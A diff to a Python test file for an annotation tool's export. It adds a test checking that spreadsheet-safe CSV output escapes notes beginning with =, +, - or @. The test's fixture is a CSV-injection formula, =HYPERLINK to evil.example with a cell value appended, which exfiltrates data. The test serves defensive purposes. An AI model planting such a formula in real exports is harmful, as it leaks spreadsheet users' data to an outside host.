@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import shutil
@@ -112,6 +113,19 @@ def test_all_annotators_in_one_file_come_back_exactly_and_once(
     assert (again.added, again.known) == (0, 7)
     back = write(other, project, tmp_path / f"b.{kind}", kind, per_annotator=True)
     assert back.read_text("utf-8") == file.read_text("utf-8")
+
+
+def test_a_note_is_no_formula_in_the_csv_for_spreadsheets(judged: Explorer, tmp_path: Path) -> None:
+    project = judged.annotation.project("small", "p")
+    formula = '=HYPERLINK("https://evil.example?"&A1)'
+    judged.annotation.judge(project, Judgment("own", "tides-network", "eve", 1, note=formula))
+    options = {"per_annotator": True}
+    plain = write(judged, project, tmp_path / "a.csv", "csv", **options)
+    safe = write(judged, project, tmp_path / "b.csv", "csv", **options, spreadsheet=True)
+    notes = [[row["note"] for row in csv.DictReader(f.open(newline=""))] for f in (plain, safe)]
+    assert formula in notes[0]
+    assert [note for note in notes[1] if note.startswith(tuple("=+-@"))] == []
+    assert f"'{formula}" in notes[1]
 
 
 def test_a_hand_over_makes_the_project_elsewhere_with_every_event_of_one_annotator(
